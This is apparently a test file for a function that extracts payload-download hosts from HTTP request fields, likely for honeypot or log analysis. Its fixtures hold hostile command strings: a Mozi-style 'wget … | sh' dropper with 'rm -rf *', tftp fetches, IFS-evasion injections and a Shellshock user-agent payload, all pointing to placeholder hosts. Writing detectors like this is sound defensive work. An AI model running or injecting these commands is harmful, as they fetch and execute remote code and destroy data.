import { deepEqual } from 'node:assert/strict'
import { test } from 'node:test'
import { payloadHosts } from './payload.ts'

const none = {
  method: 'GET',
  path: '/',
  query: '',
  version: '1.0',
  referer: '',
  userAgent: '',
  missing: undefined,
  ends: undefined,
}

const commands: readonly (readonly [query: string, hosts: readonly string[]])[] = [
  ['cd /tmp;rm -rf *;wget http://192.0.2.7:8088/Mozi.m;sh Mozi.m', ['192.0.2.7']],
  ['/c tftp -i 192.0.2.7 GET Admin.dll', ['192.0.2.7']],
  ['cmd=wget${IFS}http://198.51.100.9/a${IFS}-O${IFS}/tmp/b', ['198.51.100.9']],
  ['cmd=busybox wget 198.51.100.9/x -O - | sh', ['198.51.100.9']],
  [
    'curl -s http://user:pass@evil.example.org:81/x|sh; wget http://192.0.2.1/y',
    ['192.0.2.1', 'evil.example.org'],
  ],
  ['wget http://[2001:db8::1]:80/x', ['2001:db8::1']],
  ["system('wget http://192.0.2.7/x')", ['192.0.2.7']],
  ['url=http://192.0.2.7/picture.png', []],
  ['file=wget-1.21.3.tar.gz', []],
  ['wget http://0x7f.1/x', []],
  ['wget', []],
]

for (const [query, hosts] of commands) {
  test(`${query} fetches from ${hosts.join(' and ') || 'nowhere'}`, () =>
    deepEqual(payloadHosts({ ...none, query }), hosts))
}

test('an agent may hold the command', () => {
  deepEqual(
    payloadHosts({ ...none, userAgent: '() { :;}; /bin/bash -c "wget http://192.0.2.7/x"' }),
    ['192.0.2.7'],
  )
})
